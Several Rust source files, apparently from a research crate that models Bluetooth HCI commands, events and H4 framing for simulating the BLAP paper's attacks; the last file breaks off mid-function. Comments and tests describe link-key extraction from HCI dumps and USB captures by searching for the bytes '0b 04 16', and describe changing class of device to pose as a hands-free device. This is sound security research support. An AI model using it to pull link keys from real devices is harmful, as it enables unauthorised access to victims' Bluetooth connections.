                    oob_data_present: p[7] != 0,
                    auth_requirements: p[8],
                })
            }
            code::USER_CONFIRMATION_REQUEST => {
                need(p, 10, "HCI_User_Confirmation_Request")?;
                Ok(Event::UserConfirmationRequest {
                    bd_addr: addr_at(0),
                    numeric_value: u32::from_le_bytes([p[6], p[7], p[8], p[9]]),
                })
            }
            code::SIMPLE_PAIRING_COMPLETE => {
                need(p, 7, "HCI_Simple_Pairing_Complete")?;
                Ok(Event::SimplePairingComplete {
                    status: status_at(0)?,
                    bd_addr: addr_at(1),
                })
            }
            other => Err(DecodeError::Unsupported {
                context: "event code",
                value: other as u64,
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr() -> BdAddr {
        "48:90:12:34:56:78".parse().unwrap()
    }

    fn key() -> LinkKey {
        "71a70981f30d6af9e20adee8aafe3264".parse().unwrap()
    }

    fn all_events() -> Vec<Event> {
        vec![
            Event::InquiryComplete {
                status: StatusCode::Success,
            },
            Event::InquiryResult {
                bd_addr: addr(),
                cod: ClassOfDevice::HANDS_FREE,
            },
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(0x0006),
                bd_addr: addr(),
                encryption_enabled: false,
            },
            Event::ConnectionRequest {
                bd_addr: addr(),
                cod: ClassOfDevice::HANDS_FREE,
                link_type: 0x01,
            },
            Event::DisconnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(0x0006),
                reason: StatusCode::ConnectionTimeout,
            },
            Event::AuthenticationComplete {
                status: StatusCode::AuthenticationFailure,
                handle: ConnectionHandle::new(0x0003),
            },
            Event::EncryptionChange {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(0x0003),
                enabled: true,
            },
            Event::CommandComplete {
                num_packets: 1,
                opcode: Opcode::LINK_KEY_REQUEST_REPLY,
                return_params: vec![0x00],
            },
            Event::CommandStatus {
                status: StatusCode::Success,
                num_packets: 1,
                opcode: Opcode::CREATE_CONNECTION,
            },
            Event::PinCodeRequest { bd_addr: addr() },
            Event::LinkKeyRequest { bd_addr: addr() },
            Event::LinkKeyNotification {
                bd_addr: addr(),
                link_key: key(),
                key_type: LinkKeyType::UnauthenticatedP256,
            },
            Event::IoCapabilityRequest { bd_addr: addr() },
            Event::IoCapabilityResponse {
                bd_addr: addr(),
                io_capability: IoCapability::NoInputNoOutput,
                oob_data_present: false,
                auth_requirements: 0x03,
            },
            Event::UserConfirmationRequest {
                bd_addr: addr(),
                numeric_value: 123456,
            },
            Event::SimplePairingComplete {
                status: StatusCode::Success,
                bd_addr: addr(),
            },
        ]
    }

    #[test]
    fn encode_decode_round_trip_all_events() {
        for event in all_events() {
            let bytes = event.encode();
            let decoded = Event::decode(&bytes)
                .unwrap_or_else(|e| panic!("decode failed for {}: {e}", event.name()));
            assert_eq!(decoded, event, "round trip mismatch for {}", event.name());
        }
    }

    #[test]
    fn link_key_notification_carries_plaintext_key() {
        // The whole premise of the extraction attack: the key bytes are
        // right there in the event payload.
        let event = Event::LinkKeyNotification {
            bd_addr: addr(),
            link_key: key(),
            key_type: LinkKeyType::UnauthenticatedP256,
        };
        let bytes = event.encode();
        // Event code 0x18, len 23, addr LE (6), key LE (16), type (1).
        assert_eq!(bytes[0], 0x18);
        assert_eq!(bytes[1], 23);
        let wire_key = &bytes[8..24];
        let display: Vec<u8> = wire_key.iter().rev().copied().collect();
        assert_eq!(
            display
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect::<String>(),
            "71a70981f30d6af9e20adee8aafe3264"
        );
    }

    #[test]
    fn length_mismatch_rejected() {
        let mut bytes = Event::LinkKeyRequest { bd_addr: addr() }.encode();
        bytes[1] = 5;
        assert!(matches!(
            Event::decode(&bytes),
            Err(DecodeError::LengthMismatch { .. })
        ));
    }

    #[test]
    fn unknown_event_code_rejected() {
        assert!(matches!(
            Event::decode(&[0x99, 0x00]),
            Err(DecodeError::Unsupported { .. })
        ));
    }

    #[test]
    fn invalid_key_type_rejected() {
        let mut bytes = Event::LinkKeyNotification {
            bd_addr: addr(),
            link_key: key(),
            key_type: LinkKeyType::UnauthenticatedP256,
        }
        .encode();
        *bytes.last_mut().unwrap() = 0xEE;
        assert!(matches!(
            Event::decode(&bytes),
            Err(DecodeError::InvalidField { .. })
        ));
    }

    #[test]
    fn names_match_paper_figures() {
        assert_eq!(
            Event::ConnectionRequest {
                bd_addr: addr(),
                cod: ClassOfDevice::default(),
                link_type: 1
            }
            .name(),
            "HCI_Connection_Request"
        );
        assert_eq!(
            Event::LinkKeyRequest { bd_addr: addr() }.name(),
            "HCI_Link_Key_Request"
        );
    }
}
