//! Host Controller Interface packet model.
//!
//! HCI is *the* seam the BLAP paper attacks: every link key crosses it in
//! plaintext inside `HCI_Link_Key_Request_Reply` / `HCI_Link_Key_Notification`
//! packets, and the HCI dump / USB sniffing channels observe exactly the byte
//! stream this crate encodes.
//!
//! The crate models:
//!
//! * [`Opcode`] — OGF/OCF command opcodes,
//! * [`Command`] — the command set the simulated host sends (connection
//!   management, authentication, link-key replies, scan control, ...),
//! * [`Event`] — the event set the simulated controller emits,
//! * [`HciPacket`] — the H4 (UART) packet framing that the btsnoop logger
//!   and the USB capture both transport,
//! * [`StatusCode`] — HCI status/error codes.
//!
//! Encoding follows the Core Specification wire format (little-endian
//! multi-byte fields); the encoded bytes for the packets in the paper's
//! figures match the paper (e.g. `HCI_Link_Key_Request_Reply` starts
//! `0b 04 16` — opcode `0x040B` little-endian plus length 22).
//!
//! # Examples
//!
//! ```
//! use blap_hci::{Command, HciPacket};
//! use blap_types::{BdAddr, LinkKey};
//!
//! let addr: BdAddr = "00:1b:7d:da:71:0a".parse().unwrap();
//! let key: LinkKey = "c4f16e949f04ee9c0fd6b1023389c324".parse().unwrap();
//! let cmd = Command::LinkKeyRequestReply { bd_addr: addr, link_key: key };
//! let bytes = HciPacket::Command(cmd).encode();
//! // H4 indicator 0x01, then the bytes the paper searches for: "0b 04 16".
//! assert_eq!(&bytes[..4], &[0x01, 0x0b, 0x04, 0x16]);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod command;
mod error;
mod event;
mod opcode;
mod packet;
mod status;

pub use command::Command;
pub use error::DecodeError;
pub use event::Event;
pub use opcode::Opcode;
pub use packet::{AclData, HciPacket, PacketDirection};
pub use status::StatusCode;
