//! HCI command opcodes.

use std::fmt;

/// An HCI command opcode: a 6-bit Opcode Group Field (OGF) and a 10-bit
/// Opcode Command Field (OCF), carried little-endian on the wire.
///
/// The paper's USB extraction searches for the wire bytes `0b 04` — the
/// little-endian rendering of [`Opcode::LINK_KEY_REQUEST_REPLY`] (`0x040B`).
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub struct Opcode(u16);

impl Opcode {
    /// `HCI_Inquiry` (Link Control).
    pub const INQUIRY: Opcode = Opcode::from_ogf_ocf(0x01, 0x0001);
    /// `HCI_Inquiry_Cancel`.
    pub const INQUIRY_CANCEL: Opcode = Opcode::from_ogf_ocf(0x01, 0x0002);
    /// `HCI_Create_Connection`.
    pub const CREATE_CONNECTION: Opcode = Opcode::from_ogf_ocf(0x01, 0x0005);
    /// `HCI_Disconnect`.
    pub const DISCONNECT: Opcode = Opcode::from_ogf_ocf(0x01, 0x0006);
    /// `HCI_Accept_Connection_Request`.
    pub const ACCEPT_CONNECTION_REQUEST: Opcode = Opcode::from_ogf_ocf(0x01, 0x0009);
    /// `HCI_Reject_Connection_Request`.
    pub const REJECT_CONNECTION_REQUEST: Opcode = Opcode::from_ogf_ocf(0x01, 0x000A);
    /// `HCI_Link_Key_Request_Reply` — the packet that carries a plaintext
    /// link key from host to controller.
    pub const LINK_KEY_REQUEST_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x000B);
    /// `HCI_Link_Key_Request_Negative_Reply`.
    pub const LINK_KEY_REQUEST_NEGATIVE_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x000C);
    /// `HCI_PIN_Code_Request_Reply` (legacy pairing).
    pub const PIN_CODE_REQUEST_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x000D);
    /// `HCI_PIN_Code_Request_Negative_Reply`.
    pub const PIN_CODE_REQUEST_NEGATIVE_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x000E);
    /// `HCI_Authentication_Requested` — the first HCI message of pairing.
    pub const AUTHENTICATION_REQUESTED: Opcode = Opcode::from_ogf_ocf(0x01, 0x0011);
    /// `HCI_Set_Connection_Encryption`.
    pub const SET_CONNECTION_ENCRYPTION: Opcode = Opcode::from_ogf_ocf(0x01, 0x0013);
    /// `HCI_IO_Capability_Request_Reply`.
    pub const IO_CAPABILITY_REQUEST_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x002B);
    /// `HCI_User_Confirmation_Request_Reply`.
    pub const USER_CONFIRMATION_REQUEST_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x002C);
    /// `HCI_User_Confirmation_Request_Negative_Reply`.
    pub const USER_CONFIRMATION_REQUEST_NEGATIVE_REPLY: Opcode = Opcode::from_ogf_ocf(0x01, 0x002D);
    /// `HCI_Reset` (Controller & Baseband).
    pub const RESET: Opcode = Opcode::from_ogf_ocf(0x03, 0x0003);
    /// `HCI_Write_Local_Name`.
    pub const WRITE_LOCAL_NAME: Opcode = Opcode::from_ogf_ocf(0x03, 0x0013);
    /// `HCI_Write_Scan_Enable`.
    pub const WRITE_SCAN_ENABLE: Opcode = Opcode::from_ogf_ocf(0x03, 0x001A);
    /// `HCI_Write_Class_Of_Device`.
    pub const WRITE_CLASS_OF_DEVICE: Opcode = Opcode::from_ogf_ocf(0x03, 0x0024);
    /// `HCI_Write_Simple_Pairing_Mode`.
    pub const WRITE_SIMPLE_PAIRING_MODE: Opcode = Opcode::from_ogf_ocf(0x03, 0x0056);

    /// Builds an opcode from its group and command fields.
    ///
    /// OGF occupies the upper 6 bits, OCF the lower 10.
    pub const fn from_ogf_ocf(ogf: u8, ocf: u16) -> Self {
        Opcode(((ogf as u16) << 10) | (ocf & 0x03FF))
    }

    /// Builds an opcode from its raw 16-bit value.
    pub const fn from_raw(raw: u16) -> Self {
        Opcode(raw)
    }

    /// The raw 16-bit value.
    pub const fn raw(self) -> u16 {
        self.0
    }

    /// The Opcode Group Field.
    pub const fn ogf(self) -> u8 {
        (self.0 >> 10) as u8
    }

    /// The Opcode Command Field.
    pub const fn ocf(self) -> u16 {
        self.0 & 0x03FF
    }

    /// The little-endian wire bytes.
    pub const fn to_le_bytes(self) -> [u8; 2] {
        self.0.to_le_bytes()
    }

    /// The canonical `HCI_...` command name, when known.
    pub fn name(self) -> &'static str {
        match self {
            Opcode::INQUIRY => "HCI_Inquiry",
            Opcode::INQUIRY_CANCEL => "HCI_Inquiry_Cancel",
            Opcode::CREATE_CONNECTION => "HCI_Create_Connection",
            Opcode::DISCONNECT => "HCI_Disconnect",
            Opcode::ACCEPT_CONNECTION_REQUEST => "HCI_Accept_Connection_Request",
            Opcode::REJECT_CONNECTION_REQUEST => "HCI_Reject_Connection_Request",
            Opcode::LINK_KEY_REQUEST_REPLY => "HCI_Link_Key_Request_Reply",
            Opcode::LINK_KEY_REQUEST_NEGATIVE_REPLY => "HCI_Link_Key_Request_Negative_Reply",
            Opcode::PIN_CODE_REQUEST_REPLY => "HCI_PIN_Code_Request_Reply",
            Opcode::PIN_CODE_REQUEST_NEGATIVE_REPLY => "HCI_PIN_Code_Request_Negative_Reply",
            Opcode::AUTHENTICATION_REQUESTED => "HCI_Authentication_Requested",
            Opcode::SET_CONNECTION_ENCRYPTION => "HCI_Set_Connection_Encryption",
            Opcode::IO_CAPABILITY_REQUEST_REPLY => "HCI_IO_Capability_Request_Reply",
            Opcode::USER_CONFIRMATION_REQUEST_REPLY => "HCI_User_Confirmation_Request_Reply",
            Opcode::USER_CONFIRMATION_REQUEST_NEGATIVE_REPLY => {
                "HCI_User_Confirmation_Request_Negative_Reply"
            }
            Opcode::RESET => "HCI_Reset",
            Opcode::WRITE_LOCAL_NAME => "HCI_Write_Local_Name",
            Opcode::WRITE_SCAN_ENABLE => "HCI_Write_Scan_Enable",
            Opcode::WRITE_CLASS_OF_DEVICE => "HCI_Write_Class_Of_Device",
            Opcode::WRITE_SIMPLE_PAIRING_MODE => "HCI_Write_Simple_Pairing_Mode",
            _ => "HCI_Unknown_Command",
        }
    }
}

impl fmt::Display for Opcode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (0x{:04x})", self.name(), self.0)
    }
}

impl fmt::Debug for Opcode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Opcode({self})")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn link_key_request_reply_is_0x040b() {
        // §VI-B1: "the first two bytes (0x0b04) indicate the opcode of
        // HCI_Link_Key_Request_Reply" — i.e. little-endian 0x040B.
        let op = Opcode::LINK_KEY_REQUEST_REPLY;
        assert_eq!(op.raw(), 0x040B);
        assert_eq!(op.to_le_bytes(), [0x0b, 0x04]);
        assert_eq!(op.ogf(), 0x01);
        assert_eq!(op.ocf(), 0x000B);
    }

    #[test]
    fn ogf_ocf_round_trip() {
        for (ogf, ocf) in [(0x01u8, 0x0005u16), (0x03, 0x0024), (0x3F, 0x03FF)] {
            let op = Opcode::from_ogf_ocf(ogf, ocf);
            assert_eq!(op.ogf(), ogf);
            assert_eq!(op.ocf(), ocf);
            assert_eq!(Opcode::from_raw(op.raw()), op);
        }
    }

    #[test]
    fn known_names() {
        assert_eq!(Opcode::CREATE_CONNECTION.name(), "HCI_Create_Connection");
        assert_eq!(
            Opcode::AUTHENTICATION_REQUESTED.name(),
            "HCI_Authentication_Requested"
        );
        assert_eq!(Opcode::from_raw(0xFFFF).name(), "HCI_Unknown_Command");
    }
}
