//! H4 packet framing: the byte stream that actually crosses the
//! host↔controller transport — and therefore the byte stream the HCI dump
//! and USB sniffer capture.

use std::sync::Arc;

use blap_types::ConnectionHandle;

use crate::command::Command;
use crate::error::{need, DecodeError};
use crate::event::Event;

/// H4 packet-type indicators.
mod indicator {
    pub const COMMAND: u8 = 0x01;
    pub const ACL_DATA: u8 = 0x02;
    pub const EVENT: u8 = 0x04;
}

/// An ACL data packet (handle, packet-boundary flags, payload).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AclData {
    /// Connection the data travels on.
    pub handle: ConnectionHandle,
    /// Packet boundary / broadcast flags (4 bits, wire bits 12..15).
    pub flags: u8,
    /// L2CAP payload bytes, shared immutably: the scheduler, the sniffer
    /// tap and the receiving device all hold the same allocation instead of
    /// cloning it at each seam.
    pub payload: Arc<[u8]>,
}

impl AclData {
    /// Creates an ACL packet with default (first-non-flushable) flags.
    pub fn new(handle: ConnectionHandle, payload: impl Into<Arc<[u8]>>) -> Self {
        AclData {
            handle,
            flags: 0x02,
            payload: payload.into(),
        }
    }
}

/// Direction of a packet across the HCI transport, as recorded by btsnoop.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum PacketDirection {
    /// Host → controller (commands, outgoing ACL).
    Sent,
    /// Controller → host (events, incoming ACL).
    Received,
}

impl PacketDirection {
    /// The opposite direction.
    pub fn flipped(self) -> Self {
        match self {
            PacketDirection::Sent => PacketDirection::Received,
            PacketDirection::Received => PacketDirection::Sent,
        }
    }
}

/// A complete H4-framed HCI packet.
///
/// # Examples
///
/// ```
/// use blap_hci::{Command, HciPacket};
///
/// let pkt = HciPacket::Command(Command::Reset);
/// let bytes = pkt.encode();
/// assert_eq!(HciPacket::decode(&bytes)?, pkt);
/// # Ok::<(), blap_hci::DecodeError>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HciPacket {
    /// A command packet (H4 indicator `0x01`).
    Command(Command),
    /// An ACL data packet (H4 indicator `0x02`).
    AclData(AclData),
    /// An event packet (H4 indicator `0x04`).
    Event(Event),
}

impl HciPacket {
    /// Encodes the packet, H4 indicator byte first.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(match self {
            HciPacket::AclData(acl) => 5 + acl.payload.len(),
            _ => 32,
        });
        self.encode_into(&mut out);
        out
    }

    /// Appends the H4 frame to `out` in one pass — no intermediate `Vec`
    /// per layer. A caller that reuses `out` across packets (the simulator's
    /// per-device scratch buffer) encodes with zero steady-state
    /// allocations.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        match self {
            HciPacket::Command(cmd) => {
                out.push(indicator::COMMAND);
                cmd.encode_into(out);
            }
            HciPacket::AclData(acl) => {
                out.push(indicator::ACL_DATA);
                let header = acl.handle.raw() | ((acl.flags as u16 & 0x0F) << 12);
                out.extend_from_slice(&header.to_le_bytes());
                out.extend_from_slice(&(acl.payload.len() as u16).to_le_bytes());
                out.extend_from_slice(&acl.payload);
            }
            HciPacket::Event(event) => {
                out.push(indicator::EVENT);
                event.encode_into(out);
            }
        }
    }

    /// Decodes an H4-framed packet.
    ///
    /// # Errors
    ///
    /// Returns a [`DecodeError`] for unknown indicators or malformed bodies.
    pub fn decode(bytes: &[u8]) -> Result<Self, DecodeError> {
        need(bytes, 1, "H4 indicator")?;
        match bytes[0] {
            indicator::COMMAND => Ok(HciPacket::Command(Command::decode(&bytes[1..])?)),
            indicator::EVENT => Ok(HciPacket::Event(Event::decode(&bytes[1..])?)),
            indicator::ACL_DATA => {
                need(bytes, 5, "ACL header")?;
                let header = u16::from_le_bytes([bytes[1], bytes[2]]);
                let declared = u16::from_le_bytes([bytes[3], bytes[4]]) as usize;
                let payload = &bytes[5..];
                if payload.len() != declared {
                    return Err(DecodeError::LengthMismatch {
                        context: "ACL payload",
                        declared,
                        actual: payload.len(),
                    });
                }
                Ok(HciPacket::AclData(AclData {
                    handle: ConnectionHandle::new(header & 0x0FFF),
                    flags: ((header >> 12) & 0x0F) as u8,
                    payload: payload.into(),
                }))
            }
            other => Err(DecodeError::Unsupported {
                context: "H4 packet indicator",
                value: other as u64,
            }),
        }
    }

    /// The natural transport direction of this packet type: commands flow
    /// host→controller, events controller→host.
    ///
    /// ACL data flows both ways; this returns [`PacketDirection::Sent`] for
    /// it by convention (the snoop tap records the true direction).
    pub fn natural_direction(&self) -> PacketDirection {
        match self {
            HciPacket::Command(_) => PacketDirection::Sent,
            HciPacket::Event(_) => PacketDirection::Received,
            HciPacket::AclData(_) => PacketDirection::Sent,
        }
    }

    /// A short human-readable name (`HCI_Create_Connection`, `ACL Data`, ...).
    pub fn name(&self) -> &'static str {
        match self {
            HciPacket::Command(cmd) => cmd.name(),
            HciPacket::Event(event) => event.name(),
            HciPacket::AclData(_) => "ACL Data",
        }
    }
}

impl From<Command> for HciPacket {
    fn from(cmd: Command) -> Self {
        HciPacket::Command(cmd)
    }
}

impl From<Event> for HciPacket {
    fn from(event: Event) -> Self {
        HciPacket::Event(event)
    }
}

impl From<AclData> for HciPacket {
    fn from(acl: AclData) -> Self {
        HciPacket::AclData(acl)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::status::StatusCode;
    use blap_types::BdAddr;

    #[test]
    fn command_round_trip() {
        let pkt = HciPacket::Command(Command::Reset);
        let bytes = pkt.encode();
        assert_eq!(bytes[0], 0x01);
        assert_eq!(HciPacket::decode(&bytes).unwrap(), pkt);
    }

    #[test]
    fn event_round_trip() {
        let pkt = HciPacket::Event(Event::InquiryComplete {
            status: StatusCode::Success,
        });
        let bytes = pkt.encode();
        assert_eq!(bytes[0], 0x04);
        assert_eq!(HciPacket::decode(&bytes).unwrap(), pkt);
    }

    #[test]
    fn acl_round_trip() {
        let pkt = HciPacket::AclData(AclData {
            handle: ConnectionHandle::new(0x0ABC),
            flags: 0x02,
            payload: vec![1, 2, 3, 4, 5].into(),
        });
        let bytes = pkt.encode();
        assert_eq!(bytes[0], 0x02);
        assert_eq!(HciPacket::decode(&bytes).unwrap(), pkt);
    }

    #[test]
    fn acl_length_mismatch_rejected() {
        let mut bytes =
            HciPacket::AclData(AclData::new(ConnectionHandle::new(1), vec![9u8; 4])).encode();
        bytes.truncate(bytes.len() - 1);
        assert!(matches!(
            HciPacket::decode(&bytes),
            Err(DecodeError::LengthMismatch { .. })
        ));
    }

    #[test]
    fn unknown_indicator_rejected() {
        assert!(matches!(
            HciPacket::decode(&[0x09, 0x00]),
            Err(DecodeError::Unsupported { .. })
        ));
        assert!(matches!(
            HciPacket::decode(&[]),
            Err(DecodeError::Truncated { .. })
        ));
    }

    #[test]
    fn paper_header_bytes_for_link_key_reply() {
        // "01 0b 04 16 ..." per §VII-A of the paper (H4 command indicator,
        // LE opcode 0x040b, length 0x16).
        let addr: BdAddr = "96:55:46:6d:00:00".parse().unwrap();
        let key = "00112233445566778899aabbccddeeff".parse().unwrap();
        let pkt = HciPacket::Command(Command::LinkKeyRequestReply {
            bd_addr: addr,
            link_key: key,
        });
        assert_eq!(&pkt.encode()[..4], &[0x01, 0x0b, 0x04, 0x16]);
    }

    #[test]
    fn natural_directions() {
        assert_eq!(
            HciPacket::Command(Command::Reset).natural_direction(),
            PacketDirection::Sent
        );
        assert_eq!(
            HciPacket::Event(Event::InquiryComplete {
                status: StatusCode::Success
            })
            .natural_direction(),
            PacketDirection::Received
        );
        assert_eq!(PacketDirection::Sent.flipped(), PacketDirection::Received);
    }
}
