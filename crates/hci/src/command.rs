//! HCI commands (host → controller).

use blap_types::{BdAddr, ClassOfDevice, ConnectionHandle, DeviceName, IoCapability, LinkKey};

use crate::error::{need, DecodeError};
use crate::opcode::Opcode;
use crate::status::StatusCode;

/// An HCI command with its parameters.
///
/// Encoding produces the Core Spec wire layout: 2-byte little-endian opcode,
/// 1-byte parameter length, parameters.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Command {
    /// `HCI_Inquiry`: discover nearby devices.
    Inquiry {
        /// Inquiry length in 1.28 s units (1..=0x30).
        inquiry_length: u8,
        /// Maximum number of responses (0 = unlimited).
        num_responses: u8,
    },
    /// `HCI_Inquiry_Cancel`.
    InquiryCancel,
    /// `HCI_Create_Connection`: page a remote device.
    CreateConnection {
        /// Address to page.
        bd_addr: BdAddr,
        /// Whether the local device allows a role switch.
        allow_role_switch: bool,
    },
    /// `HCI_Disconnect`.
    Disconnect {
        /// Connection to tear down.
        handle: ConnectionHandle,
        /// Reason (e.g. remote-user-terminated).
        reason: StatusCode,
    },
    /// `HCI_Accept_Connection_Request`.
    AcceptConnectionRequest {
        /// Peer whose page is accepted.
        bd_addr: BdAddr,
        /// Whether to request a role switch while accepting.
        role_switch: bool,
    },
    /// `HCI_Reject_Connection_Request`.
    RejectConnectionRequest {
        /// Peer whose page is rejected.
        bd_addr: BdAddr,
        /// Rejection reason.
        reason: StatusCode,
    },
    /// `HCI_Link_Key_Request_Reply` — the host hands the stored link key to
    /// the controller **in plaintext**; this is the packet the paper's
    /// extraction attack pulls from the HCI dump / USB capture.
    LinkKeyRequestReply {
        /// Peer the key belongs to.
        bd_addr: BdAddr,
        /// The 128-bit link key.
        link_key: LinkKey,
    },
    /// `HCI_Link_Key_Request_Negative_Reply` — no key stored; pairing will
    /// be required.
    LinkKeyRequestNegativeReply {
        /// Peer with no stored key.
        bd_addr: BdAddr,
    },
    /// `HCI_PIN_Code_Request_Reply` — legacy (pre-SSP) pairing: the host
    /// hands the user's PIN to the controller.
    PinCodeRequestReply {
        /// Peer being paired.
        bd_addr: BdAddr,
        /// The PIN (1–16 bytes).
        pin: Vec<u8>,
    },
    /// `HCI_PIN_Code_Request_Negative_Reply` — no PIN available.
    PinCodeRequestNegativeReply {
        /// Peer whose pairing is refused.
        bd_addr: BdAddr,
    },
    /// `HCI_Authentication_Requested` — the first HCI message of pairing /
    /// LMP authentication (Fig 12).
    AuthenticationRequested {
        /// Connection to authenticate.
        handle: ConnectionHandle,
    },
    /// `HCI_Set_Connection_Encryption`.
    SetConnectionEncryption {
        /// Connection to (de)encrypt.
        handle: ConnectionHandle,
        /// Whether link-level encryption is enabled.
        enable: bool,
    },
    /// `HCI_IO_Capability_Request_Reply`.
    IoCapabilityRequestReply {
        /// Peer being paired with.
        bd_addr: BdAddr,
        /// Local IO capability (the attacker sets `NoInputNoOutput`).
        io_capability: IoCapability,
        /// OOB data present flag.
        oob_data_present: bool,
        /// Authentication requirements octet.
        auth_requirements: u8,
    },
    /// `HCI_User_Confirmation_Request_Reply` (user tapped "yes").
    UserConfirmationRequestReply {
        /// Peer being confirmed.
        bd_addr: BdAddr,
    },
    /// `HCI_User_Confirmation_Request_Negative_Reply` (user tapped "no").
    UserConfirmationRequestNegativeReply {
        /// Peer being declined.
        bd_addr: BdAddr,
    },
    /// `HCI_Reset`.
    Reset,
    /// `HCI_Write_Local_Name`.
    WriteLocalName {
        /// New local device name.
        name: DeviceName,
    },
    /// `HCI_Write_Scan_Enable` — bit 0: inquiry scan, bit 1: page scan.
    WriteScanEnable {
        /// Respond to inquiries (discoverable).
        inquiry_scan: bool,
        /// Respond to pages (connectable).
        page_scan: bool,
    },
    /// `HCI_Write_Class_Of_Device` — the knob the paper's Fig 8 turns to
    /// disguise a phone as a hands-free device.
    WriteClassOfDevice {
        /// New CoD.
        cod: ClassOfDevice,
    },
    /// `HCI_Write_Simple_Pairing_Mode`.
    WriteSimplePairingMode {
        /// Whether SSP is enabled.
        enabled: bool,
    },
}

impl Command {
    /// The command's opcode.
    pub fn opcode(&self) -> Opcode {
        match self {
            Command::Inquiry { .. } => Opcode::INQUIRY,
            Command::InquiryCancel => Opcode::INQUIRY_CANCEL,
            Command::CreateConnection { .. } => Opcode::CREATE_CONNECTION,
            Command::Disconnect { .. } => Opcode::DISCONNECT,
            Command::AcceptConnectionRequest { .. } => Opcode::ACCEPT_CONNECTION_REQUEST,
            Command::RejectConnectionRequest { .. } => Opcode::REJECT_CONNECTION_REQUEST,
            Command::LinkKeyRequestReply { .. } => Opcode::LINK_KEY_REQUEST_REPLY,
            Command::LinkKeyRequestNegativeReply { .. } => Opcode::LINK_KEY_REQUEST_NEGATIVE_REPLY,
            Command::PinCodeRequestReply { .. } => Opcode::PIN_CODE_REQUEST_REPLY,
            Command::PinCodeRequestNegativeReply { .. } => Opcode::PIN_CODE_REQUEST_NEGATIVE_REPLY,
            Command::AuthenticationRequested { .. } => Opcode::AUTHENTICATION_REQUESTED,
            Command::SetConnectionEncryption { .. } => Opcode::SET_CONNECTION_ENCRYPTION,
            Command::IoCapabilityRequestReply { .. } => Opcode::IO_CAPABILITY_REQUEST_REPLY,
            Command::UserConfirmationRequestReply { .. } => Opcode::USER_CONFIRMATION_REQUEST_REPLY,
            Command::UserConfirmationRequestNegativeReply { .. } => {
                Opcode::USER_CONFIRMATION_REQUEST_NEGATIVE_REPLY
            }
            Command::Reset => Opcode::RESET,
            Command::WriteLocalName { .. } => Opcode::WRITE_LOCAL_NAME,
            Command::WriteScanEnable { .. } => Opcode::WRITE_SCAN_ENABLE,
            Command::WriteClassOfDevice { .. } => Opcode::WRITE_CLASS_OF_DEVICE,
            Command::WriteSimplePairingMode { .. } => Opcode::WRITE_SIMPLE_PAIRING_MODE,
        }
    }

    /// The canonical `HCI_...` name.
    pub fn name(&self) -> &'static str {
        self.opcode().name()
    }

    /// Encodes the command to its wire bytes (opcode, length, parameters).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(3 + self.params_len_hint());
        self.encode_into(&mut out);
        out
    }

    /// Appends the wire bytes to `out` without allocating (given capacity).
    ///
    /// This is the hot-path entry point: the simulator encodes every packet
    /// crossing the HCI seam into a reusable per-device scratch buffer, so
    /// the per-packet `Vec` of [`Command::encode`] never materializes.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&self.opcode().to_le_bytes());
        out.push(0); // parameter length, backpatched below
        let len_at = out.len() - 1;
        self.encode_params_into(out);
        out[len_at] = (out.len() - len_at - 1) as u8;
    }

    /// Rough parameter size for pre-sizing buffers (exact not required).
    fn params_len_hint(&self) -> usize {
        match self {
            Command::WriteLocalName { .. } => 248,
            _ => 24,
        }
    }

    fn encode_params_into(&self, p: &mut Vec<u8>) {
        match self {
            Command::Inquiry {
                inquiry_length,
                num_responses,
            } => {
                // General Inquiry Access Code LAP 0x9E8B33.
                p.extend_from_slice(&[0x33, 0x8B, 0x9E, *inquiry_length, *num_responses]);
            }
            Command::InquiryCancel | Command::Reset => {}
            Command::CreateConnection {
                bd_addr,
                allow_role_switch,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                // Packet type DM1/DH1/DM3/DH3/DM5/DH5.
                p.extend_from_slice(&0xCC18u16.to_le_bytes());
                p.push(0x01); // page scan repetition mode R1
                p.push(0x00); // reserved
                p.extend_from_slice(&0u16.to_le_bytes()); // clock offset
                p.push(*allow_role_switch as u8);
            }
            Command::Disconnect { handle, reason } => {
                p.extend_from_slice(&handle.raw().to_le_bytes());
                p.push(*reason as u8);
            }
            Command::AcceptConnectionRequest {
                bd_addr,
                role_switch,
            } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(!*role_switch as u8); // 0x00 = become central
            }
            Command::RejectConnectionRequest { bd_addr, reason } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(*reason as u8);
            }
            Command::LinkKeyRequestReply { bd_addr, link_key } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.extend_from_slice(&link_key.to_le_bytes());
            }
            Command::LinkKeyRequestNegativeReply { bd_addr } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
            }
            Command::PinCodeRequestReply { bd_addr, pin } => {
                p.extend_from_slice(&bd_addr.to_le_bytes());
                p.push(pin.len().min(16) as u8);
                let mut padded = [0u8; 16];
                let take = pin.len().min(16);
                padded[..take].copy_from_slice(&pin[..take]);
